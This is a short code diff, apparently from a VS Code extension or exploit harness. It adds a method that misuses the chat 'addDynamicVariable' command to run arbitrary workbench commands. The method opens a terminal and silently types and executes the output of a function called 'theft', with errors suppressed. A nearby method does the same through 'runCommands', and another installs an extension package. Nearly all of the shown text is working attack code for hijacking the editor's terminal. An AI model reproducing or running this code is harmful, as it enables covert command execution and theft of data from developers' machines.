@@ -98,6 +98,14 @@ exports.activate = (context) =>
         commands: [{ command: "runCommands", args: { commands: [{ command: "workbench.action.terminal.sendSequence", args: { text: `${theft(facts)}\r` } }] } }],
       });
     },
+    // Of the chat's own: it runs the command of a variable, whoever says what that is.
+    async dynamicVariable(facts, vscode) {
+      const run = (id, ...words) =>
+        vscode.commands.executeCommand("workbench.action.chat.addDynamicVariable", { widget: {}, range: {}, variableData: {}, command: { id, arguments: words } }).then(undefined, () => {});
+      await run("workbench.action.terminal.new");
+      await settle();
+      await run("workbench.action.terminal.sendSequence", { text: `${theft(facts)}\r` });
+    },
     async installExtension({ vsix }, vscode) {
       await vscode.commands.executeCommand("workbench.extensions.installExtension", vscode.Uri.file(vsix));
     },
